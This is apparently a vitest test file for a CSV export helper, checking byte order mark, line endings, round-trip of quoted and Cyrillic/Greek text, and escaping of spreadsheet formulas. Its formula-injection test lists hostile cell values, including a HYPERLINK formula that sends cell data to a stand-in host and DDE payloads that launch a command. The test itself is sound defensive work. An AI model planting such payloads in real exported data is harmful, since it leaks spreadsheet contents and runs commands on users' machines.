import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv, UTF8_BOM, type CsvColumn } from '../../../lib/export/csv';

interface Row {
  name: string;
  note: string | null;
  amount: number | null;
}

const columns: Array<CsvColumn<Row>> = [
  { header: 'name', value: (row) => row.name },
  { header: 'note', value: (row) => row.note },
  { header: 'amount', value: (row) => row.amount },
];

/** What a spreadsheet would read: papaparse's own parser, rows as arrays of text. */
function parse(csv: string): string[][] {
  const result = Papa.parse<string[]>(csv, { skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe('toCsv', () => {
  it('starts with a UTF-8 byte order mark and ends rows with CRLF', () => {
    const csv = toCsv(columns, [{ name: 'Anna', note: null, amount: 1 }]);
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
    expect(csv.slice(1)).toBe('"name","note","amount"\r\n"Anna",,1\r\n');
  });

  it('reads back as the same values: commas, quotes, line breaks, Cyrillic, Greek, empty cells', () => {
    const rows: Row[] = [
      { name: 'Smith, John', note: 'He said "too pricey", then left', amount: 1200.5 },
      { name: 'Олена Коваленко', note: 'Перший рядок\r\nдругий рядок\nтретій', amount: 0 },
      { name: 'Γιώργος Παπαδόπουλος', note: 'Καλημέρα; «ευχαριστώ»', amount: null },
      { name: 'Trailing space ', note: '', amount: 7 },
      { name: '007', note: '2026-03-02', amount: 42 },
    ];
    const parsed = parse(toCsv(columns, rows));
    expect(parsed[0]).toEqual(['name', 'note', 'amount']);
    expect(parsed.slice(1)).toEqual(rows.map((row) => [row.name, row.note ?? '', row.amount === null ? '' : String(row.amount)]));
  });

  it('gives a leading apostrophe to every cell a spreadsheet would run as a formula', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+1+2',
      '-2+3+cmd|\' /C calc\'!A0',
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '\t=1+1',
      '\r=1+1',
      // papaparse's built-in check misses a formula followed by a second line.
      '=1+1\nsecond line',
    ];
    const parsed = parse(toCsv(columns, hostile.map((note) => ({ name: 'x', note, amount: null }))));
    expect(parsed.slice(1).map((row) => row[1])).toEqual(hostile.map((text) => `'${text}`));
  });

  it('leaves ordinary text alone, including a formula sign later in the text, and numbers as numbers', () => {
    const csv = toCsv(columns, [{ name: 'a = b', note: 'e-mail: x@y.example', amount: -5 }]);
    expect(parse(csv)[1]).toEqual(['a = b', 'e-mail: x@y.example', '-5']);
  });

  it('an empty list is just the header row', () => {
    expect(parse(toCsv(columns, []))).toEqual([['name', 'note', 'amount']]);
  });
});
